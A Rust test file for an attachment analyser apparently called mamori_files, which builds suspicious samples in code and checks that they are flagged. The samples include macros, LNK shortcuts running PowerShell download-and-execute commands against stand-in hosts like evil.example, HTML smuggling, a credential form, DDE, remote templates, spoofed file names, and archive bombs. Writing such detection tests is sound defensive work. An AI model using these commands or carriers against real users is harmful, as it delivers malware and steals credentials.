//! Attachments built in test code (never live malware): each must produce the observations it is made for, and
//! hostile input (bombs, deep nesting, corrupt files) must end in `limit.*`/`malformed.*` within bounded time.

use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

use mamori_files::{ObservationKind as K, Options, Report, analyse};
use zip::write::SimpleFileOptions;

fn zip_of(entries: &[(&str, &[u8])], options: SimpleFileOptions) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        w.start_file(*name, options).expect("entry");
        w.write_all(data).expect("write");
    }
    w.finish().expect("finish").into_inner()
}

fn stored() -> SimpleFileOptions {
    SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored)
}

fn kinds(r: &Report) -> Vec<K> {
    r.observations.iter().map(|o| o.kind).collect()
}

fn run(name: &str, data: &[u8]) -> Report {
    analyse(Some(name), data, &Options::default())
}

/// MS-OVBA container with literal-only chunks (valid, uncompressed content).
fn ovba(data: &[u8]) -> Vec<u8> {
    let mut out = vec![1u8];
    for chunk in data.chunks(4096) {
        if chunk.len() == 4096 {
            out.extend_from_slice(&0x3FFFu16.to_le_bytes());
            out.extend_from_slice(chunk);
            continue;
        }
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(group);
        }
        out.extend_from_slice(&(0xB000u16 | ((body.len() - 1) as u16 & 0x0FFF)).to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

fn record(out: &mut Vec<u8>, id: u16, body: &[u8]) {
    out.extend_from_slice(&id.to_le_bytes());
    out.extend_from_slice(&(body.len() as u32).to_le_bytes());
    out.extend_from_slice(body);
}

/// An OLE2 vbaProject.bin with one module holding `source`.
fn vba_project(source: &str) -> Vec<u8> {
    let mut dir = Vec::new();
    record(&mut dir, 0x0019, b"Module1");
    record(&mut dir, 0x001A, b"Module1");
    record(&mut dir, 0x0031, &0u32.to_le_bytes());
    record(&mut dir, 0x002B, &[]);
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("cfb");
    file.create_storage("/VBA").expect("storage");
    file.create_stream("/VBA/dir")
        .expect("dir")
        .write_all(&ovba(&dir))
        .expect("write");
    file.create_stream("/VBA/Module1")
        .expect("module")
        .write_all(&ovba(source.as_bytes()))
        .expect("write");
    file.create_stream("/VBA/_VBA_PROJECT")
        .expect("project")
        .write_all(&[0xCC, 0x61, 0xFF, 0xFF])
        .expect("write");
    file.flush().expect("flush");
    file.into_inner().into_inner()
}

#[test]
fn macro_document_inside_a_zip_is_reported_with_its_nested_path() {
    let project = vba_project(
        "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -c iwr http://203.0.113.9/a.exe\"\r\nEnd Sub\r\n",
    );
    let docm = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", &project),
        ],
        stored(),
    );
    let outer = zip_of(&[("doc.docm", &docm)], SimpleFileOptions::default());
    let r = run("invoice.zip", &outer);
    let k = kinds(&r);
    for want in [K::VbaMacro, K::VbaAutoExec, K::VbaSuspicious] {
        assert!(k.contains(&want), "{want:?} missing from {k:?}");
    }
    let autoexec = r.of(K::VbaAutoExec).next().expect("autoexec");
    assert_eq!(
        autoexec.path,
        vec!["invoice.zip", "doc.docm", "vbaProject.bin"]
    );
    assert!(
        r.urls
            .iter()
            .any(|u| u.url.starts_with("http://203.0.113.9/"))
    );
    assert_eq!(r.files.len(), 3);
    assert!(
        r.files
            .iter()
            .all(|f| f.sha256.len() == 64 && f.md5.len() == 32 && f.sha1.len() == 40)
    );
}

#[test]
fn executables_and_misleading_names_inside_archives() {
    let z = zip_of(
        &[
            ("請求書.pdf.exe", b"MZ\x90\x00\x03\x00\x00\x00"),
            ("readme\u{202E}fdp.js", b"WScript.Echo(1)"),
        ],
        stored(),
    );
    let k = kinds(&run("files.zip", &z));
    for want in [K::Executable, K::NameDoubleExtension, K::NameRlo, K::Script] {
        assert!(k.contains(&want), "{want:?} missing from {k:?}");
    }
    // An executable named like a PDF is a type mismatch.
    assert!(
        kinds(&run(
            "a.zip",
            &zip_of(&[("scan.pdf", b"MZ\x90\x00")], stored())
        ))
        .contains(&K::TypeMismatch)
    );
}

#[test]
fn ppap_encrypted_zip_and_password_from_the_body() {
    let secret = SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "Qw8xZ2pk");
    let z = zip_of(&[("見積書.exe", b"MZ\x90\x00\x03")], secret);
    let locked = run("見積書.zip", &z);
    assert!(kinds(&locked).contains(&K::EncryptedArchive));
    // The name of an encrypted entry is still visible and still dangerous.
    assert!(kinds(&locked).contains(&K::Executable));
    let passwords = mamori_files::passwords_in_text(
        "お世話になっております。\nパスワード：Ｑｗ８ｘＺ２ｐｋ\nよろしくお願いします。",
    );
    assert_eq!(passwords, vec!["Qw8xZ2pk"]);
    let opened = analyse(
        Some("見積書.zip"),
        &z,
        &Options {
            passwords,
            ..Default::default()
        },
    );
    let k = kinds(&opened);
    assert!(
        k.contains(&K::ArchivePasswordOpened) && !k.contains(&K::EncryptedArchive),
        "{k:?}"
    );
    assert_eq!(opened.files.len(), 2);
}

#[test]
fn pdf_rtf_lnk_html_onenote_carriers() {
    let pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /J#61vaScript /JS (app.launchURL('https://evil.example/x')) >> endobj\n3 0 obj << /S /URI /URI (https://login.evil.example/signin) >> endobj\n%%EOF\n";
    let r = run("doc.pdf", pdf);
    let k = kinds(&r);
    for want in [K::PdfJavaScript, K::PdfAutoAction, K::PdfNameObfuscation] {
        assert!(k.contains(&want), "{want:?} missing from {k:?}");
    }
    assert!(
        r.urls
            .iter()
            .any(|u| u.url == "https://login.evil.example/signin")
    );

    let rtf = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}";
    let k = kinds(&run("doc.rtf", rtf));
    for want in [K::RtfObject, K::RtfObjupdate, K::EquationEditor] {
        assert!(k.contains(&want), "{want:?} missing from {k:?}");
    }

    let mut lnk = vec![
        0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0, 0x46,
    ];
    lnk.resize(0x4C, 0);
    lnk[0x14] = 0x08 | 0x20 | 0x80; // relative path, arguments, unicode
    for s in [
        "..\\..\\Windows\\System32\\cmd.exe",
        "/c powershell -ep bypass -c iwr https://evil.example/p.ps1|iex",
    ] {
        let units: Vec<u16> = s.encode_utf16().collect();
        lnk.extend_from_slice(&(units.len() as u16).to_le_bytes());
        for u in units {
            lnk.extend_from_slice(&u.to_le_bytes());
        }
    }
    let r = run("invoice.pdf.lnk", &lnk);
    assert!(kinds(&r).contains(&K::LnkCommand), "{:?}", kinds(&r));
    assert!(
        r.urls
            .iter()
            .any(|u| u.url.starts_with("https://evil.example/p.ps1"))
    );

    let html = b"<html><body><script>var b=new Blob([Uint8Array.from(atob('TVqQ'),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();</script></body></html>";
    assert!(kinds(&run("invoice.html", html)).contains(&K::HtmlSmuggling));
    let phish = b"<html><body><form action=\"https://collect.evil.example/p\"><input type=\"password\" name=\"pw\"></form></body></html>";
    assert!(kinds(&run("login.htm", phish)).contains(&K::HtmlCredentialForm));
    let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://evil.example'</script></svg>";
    assert!(kinds(&run("img.svg", svg)).contains(&K::SvgScript));

    let mut one = vec![
        0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96,
        0xD3,
    ];
    one.extend_from_slice(&[0; 64]);
    one.extend_from_slice(&[
        0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E,
        0xAC,
    ]);
    let payload =
        b"<html><hta:application/><script>new ActiveXObject('WScript.Shell')</script></html>";
    one.extend_from_slice(&(payload.len() as u64).to_le_bytes());
    one.extend_from_slice(&[0; 12]);
    one.extend_from_slice(payload);
    let k = kinds(&run("notes.one", &one));
    assert!(
        k.contains(&K::OneNoteEmbedded) && k.contains(&K::Script),
        "{k:?}"
    );
}

#[test]
fn remote_template_and_dde_in_ooxml() {
    let rels = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let doc = br#"<w:document><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:document>"#;
    let docx = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/_rels/settings.xml.rels", rels),
            ("word/document.xml", doc),
        ],
        SimpleFileOptions::default(),
    );
    let r = run("order.docx", &docx);
    let k = kinds(&r);
    assert!(
        k.contains(&K::RemoteTemplate) && k.contains(&K::Dde),
        "{k:?}"
    );
    assert!(
        r.urls
            .iter()
            .any(|u| u.url == "https://evil.example/t.dotm")
    );
    // A clean document says nothing.
    let clean = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document>hello</w:document>"),
        ],
        stored(),
    );
    assert!(run("clean.docx", &clean).observations.is_empty());
}

fn stored_zip_raw(name: &str, data: &[u8]) -> Vec<u8> {
    let crc = crc32fast::hash(data);
    let mut out = Vec::with_capacity(data.len() + 128);
    let header = |out: &mut Vec<u8>, central: bool| {
        out.extend_from_slice(if central {
            b"PK\x01\x02"
        } else {
            b"PK\x03\x04"
        });
        if central {
            out.extend_from_slice(&20u16.to_le_bytes());
        }
        out.extend_from_slice(&20u16.to_le_bytes()); // version needed
        out.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 0]); // flags, method, time, date
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        if central {
            out.extend_from_slice(&[0; 12]); // comment len, disk, attrs, external attrs (2+2+2+4)
            out.extend_from_slice(&[0; 4]); // local header offset 0
        }
        out.extend_from_slice(name.as_bytes());
    };
    header(&mut out, false);
    out.extend_from_slice(data);
    let central_start = out.len();
    header(&mut out, true);
    let central_len = out.len() - central_start;
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    out.extend_from_slice(&(central_len as u32).to_le_bytes());
    out.extend_from_slice(&(central_start as u32).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

#[test]
fn ten_thousand_nested_archives_stop_at_the_depth_limit() {
    let mut data = b"innermost".to_vec();
    for level in 0..10_000 {
        data = stored_zip_raw(&format!("l{level}.zip"), &data);
    }
    let start = Instant::now();
    let r = run("nested.zip", &data);
    assert!(kinds(&r).contains(&K::LimitDepth), "{:?}", kinds(&r));
    assert!(r.files.len() <= Options::default().limits.max_depth + 1);
    assert!(start.elapsed() < Duration::from_secs(10));
}

#[test]
fn one_gigabyte_from_one_megabyte_is_a_limit() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        gz.write_all(&zeros).expect("gzip");
    }
    let bomb = gz.finish().expect("gzip");
    assert!(bomb.len() < 2 << 20, "{}", bomb.len());
    let start = Instant::now();
    let r = run("bomb.gz", &bomb);
    let k = kinds(&r);
    assert!(
        k.iter()
            .any(|k| matches!(k, K::LimitRatio | K::LimitEntrySize)),
        "{k:?}"
    );
    assert!(start.elapsed() < Duration::from_secs(10));
    // The same inside a ZIP: the declared size is refused before inflating.
    let two_mib = vec![0u8; 2 << 20];
    let z = zip_of(&[("zeros.bin", &two_mib)], SimpleFileOptions::default());
    let small = Options {
        limits: mamori_files::Limits {
            max_entry_bytes: 1000,
            ..Default::default()
        },
        ..Default::default()
    };
    assert!(kinds(&analyse(Some("z.zip"), &z, &small)).contains(&K::LimitEntrySize));
    let ratio = Options {
        limits: mamori_files::Limits {
            max_ratio: 10,
            ..Default::default()
        },
        ..Default::default()
    };
    assert!(kinds(&analyse(Some("z.zip"), &z, &ratio)).contains(&K::LimitRatio));
}

#[test]
fn corrupt_and_truncated_input_is_malformed_not_a_crash() {
    let good = zip_of(&[("a.txt", b"hello world")], SimpleFileOptions::default());
    assert!(kinds(&run("cut.zip", &good[..good.len() / 2])).contains(&K::MalformedArchive));
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.extend_from_slice(&[0xFF; 600]);
    assert!(kinds(&run("broken.doc", &ole)).contains(&K::MalformedOffice));
    let pdf = b"%PDF-1.7\n1 0 obj << /Length 99999 /Filter /FlateDecode >> stream\nx\x9c\x01\x02";
    assert!(kinds(&run("cut.pdf", pdf)).contains(&K::MalformedPdf));
    // Reference cycles: a raw scan follows no references, so it terminates.
    let cycle = b"%PDF-1.4\n1 0 obj << /Kids [2 0 R] >> endobj 2 0 obj << /Parent 1 0 R /Kids [1 0 R] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF";
    let _ = run("cycle.pdf", cycle);
    let _ = run("cut.gz", &[0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 0xAB]);
    let _ = run("cut.tar", &{
        let mut t = vec![0u8; 600];
        t[257..262].copy_from_slice(b"ustar");
        t
    });
    let mut iso = vec![0u8; 0x8800];
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    iso[0x8000 + 156 + 2..0x8000 + 156 + 6].copy_from_slice(&0xFFFF_FFF0u32.to_le_bytes());
    let _ = run("bad.iso", &iso);
}

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (n, c) in data.chunks(3).enumerate() {
        let v = c
            .iter()
            .enumerate()
            .fold(0u32, |v, (i, &b)| v | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            out.push(if i <= c.len() {
                T[(v >> (18 - 6 * i) & 63) as usize] as char
            } else {
                '='
            });
        }
        if n % 19 == 18 {
            out.push_str("\r\n");
        }
    }
    out
}

const AUTO_OPEN: &str =
    "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n";

#[test]
fn word_2003_xml_with_macros_in_editdata_mso() {
    // editdata.mso: an ActiveMime container whose zlib stream (at 0x32) is the VBA project's OLE file.
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&vba_project(AUTO_OPEN)).expect("zlib");
    let mut mso = b"ActiveMime".to_vec();
    mso.resize(0x32, 0);
    mso[0x1E] = 4;
    mso.extend(z.finish().expect("zlib"));
    let xml = format!(
        "<?xml version=\"1.0\"?>\r\n<?mso-application progid=\"Word.Document\"?>\r\n<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:docSuppData><w:binData w:name=\"editdata.mso\">{}</w:binData></w:docSuppData><w:body/></w:wordDocument>",
        base64(&mso)
    );
    let r = run("report.xml", xml.as_bytes());
    let k = kinds(&r);
    assert!(
        k.contains(&K::VbaMacro) && k.contains(&K::VbaAutoExec),
        "{k:?}"
    );
    assert_eq!(
        r.of(K::VbaAutoExec).next().expect("autoexec").path,
        vec!["report.xml", "editdata.mso"]
    );
    // A broken part is malformed, not a crash; a plain XML file is left alone.
    let broken = xml.replace(
        "<w:binData w:name=\"editdata.mso\">",
        "<w:binData w:name=\"editdata.mso\">*",
    );
    assert!(kinds(&run("report.xml", broken.as_bytes())).contains(&K::MalformedOffice));
    assert!(
        run("data.xml", b"<?xml version=\"1.0\"?><a>QUJD</a>")
            .observations
            .is_empty()
    );
}

#[test]
fn flat_opc_xml_with_embedded_object_and_macros() {
    let xml = format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/_rels/document.xml.rels\"><pkg:xmlData><Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/></Relationships></pkg:xmlData></pkg:part><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>{}</pkg:binaryData></pkg:part><pkg:part pkg:name=\"/word/embeddings/oleObject1.bin\"><pkg:binaryData>{}</pkg:binaryData></pkg:part></pkg:package>",
        base64(&vba_project(AUTO_OPEN)),
        base64(b"MZ not really")
    );
    let k = kinds(&run("doc.xml", xml.as_bytes()));
    for want in [K::VbaAutoExec, K::EmbeddedObject, K::RemoteTemplate] {
        assert!(k.contains(&want), "{want:?} missing from {k:?}");
    }
}

#[test]
fn dde_in_a_binary_workbook_external_link() {
    // BrtBeginSupBook (0x168 → bytes E8 02), size, sbt = 1 (DDE), service "cmd", topic "/c calc".
    let wide = |s: &str| {
        let mut v = (s.len() as u32).to_le_bytes().to_vec();
        v.extend(s.encode_utf16().flat_map(|u| u.to_le_bytes()));
        v
    };
    let mut body = vec![1u8, 0];
    body.extend(wide("cmd"));
    body.extend(wide("/c calc"));
    let mut record = vec![0xE8, 0x02, body.len() as u8];
    record.extend(&body);
    let xlsb = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.bin", b"\x83\x01\x00"),
            ("xl/externalLinks/externalLink1.bin", &record),
        ],
        stored(),
    );
    let r = run("book.xlsb", &xlsb);
    let dde = r.of(K::Dde).next().expect("dde");
    assert!(dde.detail.contains("cmd|'/c calc'"), "{}", dde.detail);
    // Not DDE (sbt 0, an external workbook): nothing.
    record[3] = 0;
    let plain = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/externalLinks/externalLink1.bin", &record),
        ],
        stored(),
    );
    assert!(!kinds(&run("book.xlsb", &plain)).contains(&K::Dde));
}

#[test]
fn tnef_attachments_are_walked() {
    let attr = |id: u32, value: &[u8]| {
        let mut a = vec![2u8];
        a.extend(id.to_le_bytes());
        a.extend((value.len() as u32).to_le_bytes());
        a.extend(value);
        a.extend([0, 0]);
        a
    };
    let mut d = vec![0x78, 0x9F, 0x3E, 0x22, 0, 0];
    d.extend(attr(0x0006_9002, &[0; 14]));
    d.extend(attr(0x0001_8010, b"invoice.pdf.exe\0"));
    d.extend(attr(0x0006_800F, b"MZ\x90\0\x03 payload"));
    let r = run("winmail.dat", &d);
    let k = kinds(&r);
    assert!(
        k.contains(&K::Executable) && k.contains(&K::NameDoubleExtension),
        "{k:?}"
    );
    assert_eq!(r.files.len(), 2);
}
